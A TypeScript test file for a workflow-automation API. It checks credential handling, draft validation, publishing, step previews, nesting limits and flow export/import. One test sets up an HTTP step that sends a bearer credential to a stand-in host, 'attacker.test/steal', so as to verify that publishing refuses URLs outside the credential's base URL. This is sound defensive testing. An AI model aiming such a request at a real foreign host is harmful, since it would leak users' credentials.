import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { api, call, controlUrl, petstoreRequests, resetPetstore } from "./helpers";

/** This file's tenant of the local server: its CRM-like API lives next to its Petstore. */
const crmBase = () => env.PETSTORE_BASE_URL.replace(/\/v2$/, "/crm");
const tokenUrl = () => env.PETSTORE_BASE_URL.replace(/\/v2$/, "/oauth/token");

async function webhookCredential(): Promise<string> {
	return (await api("POST", "/api/credentials", { component: "webhook", name: "hook", auth: { type: "none" } })).credential.id;
}

describe("the catalogue of steps", () => {
	it("describes the HTTP request and every logic action fully enough to build their forms", async () => {
		const { components } = await api("GET", "/api/components");
		const http = components.find((c: { id: string }) => c.id === "http");
		expect(http.credentialTypes.map((t: { type: string }) => t.type)).toEqual([
			"none",
			"basic",
			"bearer",
			"apiKey",
			"oauth2ClientCredentials",
		]);
		const request = http.actions[0];
		expect(request).toMatchObject({ id: "request", runs: "call" });
		expect(request.settings.find((s: { name: string }) => s.name === "url")).toMatchObject({
			kind: "template",
			templateOf: "url",
			required: true,
			label: "URL",
		});
		expect(request.settings.find((s: { name: string }) => s.name === "method")).toMatchObject({
			kind: "select",
			options: ["GET", "POST", "PUT", "PATCH", "DELETE"],
		});
		const logic = components.find((c: { id: string }) => c.id === "logic");
		expect(logic.actions.map((a: { id: string }) => a.id)).toEqual(["filter", "transform", "split", "router"]);
		expect(logic.actions[2].settings.find((s: { name: string }) => s.name === "concurrency")).toMatchObject({
			kind: "number",
			min: 1,
			max: 10,
			default: 1,
		});
	});
});

describe("HTTP credentials", () => {
	it("creates each type without ever returning a secret, and a new baseUrl needs the secret again", async () => {
		const secrets = ["crm-pass", "crm-token", "crm-key", "crm-secret"];
		const made = [];
		for (const auth of [
			{ type: "none" },
			{ type: "basic", username: "crm", password: "crm-pass" },
			{ type: "bearer", token: "crm-token" },
			{ type: "apiKey", in: "query", name: "api_key", key: "crm-key" },
			{ type: "oauth2ClientCredentials", tokenUrl: tokenUrl(), clientId: "crm-client", clientSecret: "crm-secret", scope: "notes" },
		]) {
			const response = await call("POST", "/api/credentials", { component: "http", name: `CRM ${auth.type}`, baseUrl: crmBase(), auth });
			expect(response.status).toBe(201);
			const text = await response.text();
			for (const secret of secrets) expect(text).not.toContain(secret);
			made.push(JSON.parse(text).credential);
		}
		expect(made.map((c) => [c.component, c.type])).toEqual([
			["http", "none"],
			["http", "basic"],
			["http", "bearer"],
			["http", "apiKey"],
			["http", "oauth2ClientCredentials"],
		]);
		expect(made[3].details).toEqual({ baseUrl: crmBase(), in: "query", keyName: "api_key" });
		const bearer = made[2].id;
		const moved = await call("PATCH", `/api/credentials/${bearer}`, { baseUrl: "https://elsewhere.test/api" });
		expect(moved.status).toBe(400);
		expect(((await moved.json()) as { error: { message: string } }).error.message).toMatch(/Changing baseUrl requires auth/);
		const confirmed = await api("PATCH", `/api/credentials/${bearer}`, {
			baseUrl: "https://elsewhere.test/api",
			auth: { type: "bearer", token: "t2" },
		});
		expect(confirmed.credential.details.baseUrl).toBe("https://elsewhere.test/api");
	});

	it("checks an OAuth2 client by fetching a token: a refused secret is a 422 naming the endpoint, and nothing is saved", async () => {
		const before = (await api("GET", "/api/credentials?component=http")).credentials.length;
		const response = await call("POST", "/api/credentials", {
			component: "http",
			name: "Wrong client",
			baseUrl: crmBase(),
			auth: { type: "oauth2ClientCredentials", tokenUrl: tokenUrl(), clientId: "crm-client", clientSecret: "wrong" },
		});
		expect(response.status).toBe(422);
		const text = await response.text();
		expect(text).toMatch(/token endpoint .* answered 401 \(invalid_client\)/);
		expect(text).not.toContain("wrong");
		expect((await api("GET", "/api/credentials?component=http")).credentials.length).toBe(before);
	});
});

describe("drafts and publishing with steps", () => {
	it("gives steps saved without an id one, and keeps the ones they have", async () => {
		const { flow } = await api("POST", "/api/flows", { name: "Ids" });
		const saved = await api("PUT", `/api/flows/${flow.id}/draft`, {
			trigger: { component: "webhook" },
			steps: [
				{ component: "logic", action: "filter", condition: "true" },
				{ id: "step_1", component: "logic", action: "transform", expression: "1" },
				{ component: "logic", action: "split", items: "lines", steps: [{ component: "logic", action: "transform", expression: "$item" }] },
			],
		});
		expect(saved.flow.draft.steps.map((s: { id: string }) => s.id)).toEqual(["step_2", "step_1", "step_3"]);
		expect(saved.flow.draft?.steps[2]?.steps?.[0]?.id).toBe("step_4");
	});

	it("refuses to publish with one issue per problem, each with its path (422)", async () => {
		const hook = await webhookCredential();
		const petstore =
			(await api("GET", "/api/credentials?component=petstore")).credentials[0]?.id ??
			(await api("POST", "/api/credentials", { component: "petstore", name: "Pets", apiKey: "secret" })).credential.id;
		const crm = (
			await api("POST", "/api/credentials", {
				component: "http",
				name: "CRM",
				baseUrl: crmBase(),
				auth: { type: "bearer", token: "crm-token" },
			})
		).credential.id;
		const { flow } = await api("POST", "/api/flows", { name: "Bad steps" });
		await api("PUT", `/api/flows/${flow.id}/draft`, {
			trigger: { component: "webhook", credentialId: hook },
			steps: [
				{ id: "crm", component: "http", action: "request", method: "GET", url: "https://attacker.test/steal", credentialId: crm },
				{ id: "wrong", component: "http", action: "request", method: "GET", url: "/x", credentialId: petstore },
				{
					id: "fan",
					component: "logic",
					action: "router",
					mode: "all",
					routes: [
						{
							name: "a",
							condition: "true",
							steps: [
								{ id: "pet", component: "petstore", action: "createPet", credentialId: petstore, mapping: { name: "$steps.later.x" } },
							],
						},
					],
				},
				{ id: "later", component: "logic", action: "transform", expression: "1" },
			],
		});
		const response = await call("POST", `/api/flows/${flow.id}/publish`);
		expect(response.status).toBe(422);
		const { error } = (await response.json()) as { error: { message: string; issues: Array<{ path: string; message: string }> } };
		expect(error.issues).toEqual([
			{
				path: "steps.2.routes.0.steps.0.mapping.name",
				message: "Mapping for name reads $steps.later, which is not an earlier step on the way to this one",
			},
		]);
		// With the expression fixed, the credentials' problems come next, each with its path.
		const { flow: current } = await api("GET", `/api/flows/${flow.id}`);
		const draft = JSON.parse(JSON.stringify(current.draft));
		draft.steps[2].routes[0].steps[0].mapping.name = "$steps.crm.body.name";
		await api("PUT", `/api/flows/${flow.id}/draft`, draft);
		const again = await call("POST", `/api/flows/${flow.id}/publish`);
		expect(again.status).toBe(422);
		const second = ((await again.json()) as { error: { issues: Array<{ path: string; message: string }> } }).error.issues;
		expect(second).toEqual([
			{ path: "steps.0.url", message: expect.stringMatching(/goes to https:\/\/attacker.test, outside the credential's base URL/) },
			{ path: "steps.1.credentialId", message: expect.stringMatching(/is a petstore credential; this step needs a http credential/) },
		]);
		expect((await api("GET", `/api/flows/${flow.id}`)).flow.version).toBeNull();
	});

	it("serves step runs and the filtered status in the run log's shapes", async () => {
		await resetPetstore();
		const doc = await api("GET", "/api/openapi.json");
		expect(doc.components.schemas.StepRun.properties.status.enum).toEqual(["succeeded", "failed", "retrying", "filtered", "skipped"]);
		expect(doc.components.schemas.ExecutionSummary.properties.status.enum).toContain("filtered");
		const { flow } = await api("POST", "/api/flows", { name: "Search" });
		expect((await api("GET", `/api/flows/${flow.id}/executions?status=filtered`)).statuses).toContain("filtered");
		expect((await petstoreRequests()).requests).toEqual([]);
		expect(controlUrl("x")).toMatch(/__control/);
	});
});

describe("Retrieve sample for any step", () => {
	it("runs an HTTP step with the earlier steps' samples (a real call) and says which way a filter sends the sample", async () => {
		await resetPetstore();
		const crm = (
			await api("POST", "/api/credentials", {
				component: "http",
				name: "CRM sample",
				baseUrl: crmBase(),
				auth: { type: "bearer", token: "crm-token" },
			})
		).credential.id;
		const { flow } = await api("POST", "/api/flows", { name: "Samples" });
		await api("PUT", `/api/flows/${flow.id}/draft`, {
			trigger: { component: "webhook", sample: { customer: "c 1/2", amount: 5 } },
			steps: [],
		});
		const http = await api("POST", `/api/flows/${flow.id}/steps/0/sample`, {
			step: {
				id: "lookup",
				component: "http",
				action: "request",
				method: "GET",
				url: "/customers/{{customer}}",
				credentialId: crm,
				query: { tier: "{{$steps.prev.tier}}" },
			},
			steps: { prev: { tier: "gold" } },
		});
		expect(http.sample).toMatchObject({ error: null, output: { status: 200, body: { id: "c 1/2", email: "c 1/2@example.test" } } });
		const [sent] = (await petstoreRequests()).requests;
		// The value is one path segment, percent-encoded; the bearer token went with it and is not recorded.
		expect(sent?.path).toBe("/crm/customers/c%201%2F2?tier=gold");
		expect(JSON.stringify(http.sample.request)).not.toContain("crm-token");
		const filter = await api("POST", `/api/flows/${flow.id}/steps/0/sample`, {
			step: { component: "logic", action: "filter", condition: "amount > 10" },
		});
		expect(filter.sample).toMatchObject({ output: false, logic: { passed: false }, error: null });
	});
});

describe("the designer's step preview and kept samples", () => {
	it("previews a step with the earlier steps' samples without calling, and keeps a step's sample in the draft", async () => {
		await resetPetstore();
		const crm = (
			await api("POST", "/api/credentials", {
				component: "http",
				name: "CRM preview",
				baseUrl: crmBase(),
				auth: { type: "bearer", token: "crm-token" },
			})
		).credential.id;
		const { flow } = await api("POST", "/api/flows", { name: "Preview" });
		const step = {
			id: "note",
			component: "http",
			action: "request",
			credentialId: crm,
			method: "POST",
			url: "/notes/{{$steps.crm.body.id}}",
			body: '{"email": $steps.crm.body.email, "n": $index}',
		};
		const { preview } = await api("POST", `/api/flows/${flow.id}/steps/preview`, {
			step,
			sample: { customer: "ada" },
			steps: { crm: { status: 200, body: { id: "a/1", email: "ada@example.test" } } },
			index: 2,
			item: "x",
		});
		expect(preview).toMatchObject({
			error: null,
			request: { method: "POST", url: `${crmBase()}/notes/a%2F1`, body: { email: "ada@example.test", n: 2 } },
		});
		expect(JSON.stringify(preview)).not.toContain("crm-token");
		// Nothing was sent.
		expect((await petstoreRequests()).requests).toEqual([]);
		const filter = await api("POST", `/api/flows/${flow.id}/steps/preview`, {
			step: {
				component: "logic",
				action: "router",
				mode: "first",
				routes: [{ name: "Gold", condition: "$steps.crm.body.tier = 'gold'", steps: [] }],
			},
			steps: { crm: { body: { tier: "gold" } } },
		});
		expect(filter.preview).toMatchObject({ logic: { routes: ["Gold"] }, error: null });
		const broken = await api("POST", `/api/flows/${flow.id}/steps/preview`, { step: { ...step, body: "$steps.crm.(" } });
		expect(broken.preview.request).toBeNull();
		expect(broken.preview.error).toMatch(/./);

		const saved = await api("PUT", `/api/flows/${flow.id}/draft`, {
			trigger: { component: "webhook" },
			steps: [{ ...step, sample: { status: 201, body: { id: 7 } } }],
		});
		expect(saved.flow.draft.steps[0]?.sample).toEqual({ status: 201, body: { id: 7 } });
		const tooBig = await call("PUT", `/api/flows/${flow.id}/draft`, {
			trigger: { component: "webhook" },
			steps: [{ ...step, sample: "x".repeat(70_000) }],
		});
		expect(tooBig.status).toBe(400);
	});
});

describe("the step limits the designer is served", () => {
	it("GET /api/flow-settings serves the limits the draft enforces: nesting one deeper is refused", async () => {
		const { steps: limits } = await api("GET", "/api/flow-settings");
		expect(limits).toEqual({ maxSteps: 50, maxDepth: 3 });
		const { flow } = await api("POST", "/api/flows", { name: "Deep" });
		const nest = (depth: number): unknown =>
			depth === 1
				? { component: "logic", action: "filter", condition: "true" }
				: { component: "logic", action: "split", items: "[1]", steps: [nest(depth - 1)] };
		const put = (depth: number) => call("PUT", `/api/flows/${flow.id}/draft`, { trigger: { component: "webhook" }, steps: [nest(depth)] });
		expect((await put(limits.maxDepth)).status).toBe(200);
		expect((await put(limits.maxDepth + 1)).status).toBe(400);
	});
});

describe("export and import of flows of many steps", () => {
	it("carries the steps, nested ones included, and points their credentials at the target's of the same name", async () => {
		const hook = await webhookCredential();
		const crm = (
			await api("POST", "/api/credentials", {
				component: "http",
				name: "CRM export",
				baseUrl: crmBase(),
				auth: { type: "bearer", token: "crm-token" },
			})
		).credential.id;
		const { flow } = await api("POST", "/api/flows", { name: "Export steps" });
		const steps = [
			{
				id: "lines",
				component: "logic",
				action: "split",
				items: "lines",
				steps: [{ id: "note", component: "http", action: "request", credentialId: crm, method: "POST", url: "/notes" }],
			},
		];
		await api("PUT", `/api/flows/${flow.id}/draft`, { trigger: { component: "webhook", credentialId: hook }, steps });
		const exported = await api("GET", "/api/export");
		const mine = exported.flows.filter((f: { name: string }) => f.name === "Export steps");
		await api("DELETE", `/api/flows/${flow.id}`);
		await api("DELETE", `/api/credentials/${crm}`);
		const again = (
			await api("POST", "/api/credentials", {
				component: "http",
				name: "CRM export",
				baseUrl: crmBase(),
				auth: { type: "bearer", token: "crm-token" },
			})
		).credential.id;
		const imported = await call("POST", "/api/import", { ...exported, flows: mine });
		expect(imported.status).toBe(201);
		const { flows } = (await imported.json()) as { flows: Array<{ id: string }> };
		const { flow: copy } = await api("GET", `/api/flows/${flows[0]?.id}`);
		expect(copy.draft?.steps).toEqual([{ ...steps[0], steps: [{ ...steps[0]?.steps[0], credentialId: again }] }]);
	});
});
